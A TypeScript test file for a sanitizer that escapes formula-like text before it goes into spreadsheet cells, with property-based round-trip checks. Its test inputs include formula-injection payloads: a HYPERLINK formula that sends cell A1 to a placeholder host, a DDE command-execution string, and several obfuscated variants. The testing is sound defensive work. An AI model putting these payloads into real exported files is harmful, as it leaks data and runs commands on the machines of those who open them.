import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { textIntoCell, textOutOfCell } from './spreadsheet-text.ts';

describe('text that goes into a spreadsheet', () => {
  it.each([
    '=HYPERLINK("http://example.invalid?"&A1,"名册")',
    "=cmd|' /C calc'!A0",
    '+8613800000000',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r\n=1+1',
    '  =1+1',
    '\u3000＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '\u200b=1',
    '\ufeff=1',
  ])('is no formula any more: %j', (text) => {
    expect(textIntoCell(text)).toBe(`'${text}`);
  });

  it.each(['王桂兰', '3-2-501', '11010519491231002X', '老人说：=没有', '', "'已加引号"])(
    'stays as it is where it is none: %j',
    (text) => {
      expect(textIntoCell(text)).toBe(text);
    },
  );

  it('comes back as it was, marked before or not', () => {
    const cells = fc.string({ unit: fc.constantFrom("'", '=', '＋', '-', ' ', '\t', '王', '1') });
    fc.assert(fc.property(cells, (text) => textOutOfCell(textIntoCell(text)) === text));
  });

  it('never begins as a formula', () => {
    const cells = fc.string({ unit: fc.constantFrom("'", '=', '＋', '@', '\u3000', '\n', 'a') });
    fc.assert(fc.property(cells, (text) => !/^[\s\u3000]*[=+\-@＝＋－＠]/u.test(textIntoCell(text))));
  });
});
